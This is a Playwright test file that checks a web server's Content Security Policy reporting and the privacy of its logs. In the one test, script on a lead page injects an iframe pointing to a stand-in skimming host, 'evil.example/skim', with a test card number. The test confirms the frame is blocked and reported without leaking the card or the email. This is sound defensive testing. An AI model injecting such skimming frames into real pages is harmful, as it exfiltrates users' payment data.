import { expect, test as base } from '@playwright/test';
import { whileServing, type BuiltServer } from '../support/built-server.ts';
import { startUpstream } from '../support/independent-upstream/upstream.ts';
import { whileOpen } from '../support/while-open.ts';

/** The production command, at an upstream of somebody else's making. */
const test = base.extend<{}, { server: BuiltServer }>({
  server: [
    ({}, use) =>
      whileOpen(startUpstream(), ({ origin }) =>
        whileServing({ API_URL: origin, ENVIRONMENT: 'production' }, use),
      ),
    { scope: 'worker' },
  ],
});

/** Lines printed after the announcement: each has to be JSON. */
const linesOf = ({ printed }: BuiltServer) =>
  printed()
    .split('\n')
    .filter((line) => line !== '' && !/^(ready on | {2}\S)/.test(line))
    .map((line) => JSON.parse(line) as Record<string, unknown>);

test('what the policy stops is reported without what the page holds', async ({ page, server }) => {
  await page.goto(`${server.origin}/lead?product=WUP&email=ana@example.com`);
  await page.evaluate(() => {
    const picture = document.createElement('iframe');
    picture.src = 'https://evil.example/skim?card=4111111111111111';
    document.body.append(picture);
  });
  const reports = () =>
    linesOf(server).map(({ directive, blocked, template }) => [directive, blocked, template]);
  await expect.poll(reports).toContainEqual(['frame-src', 'https://evil.example', '/lead']);
  const metrics = await (await fetch(`${server.origin}/metrics`)).text();
  expect(metrics).toContain('guiche_csp_reports_total{directive="frame-src",outcome="logged"} 1\n');
  expect(server.printed()).not.toMatch(/4111|ana@/);
});
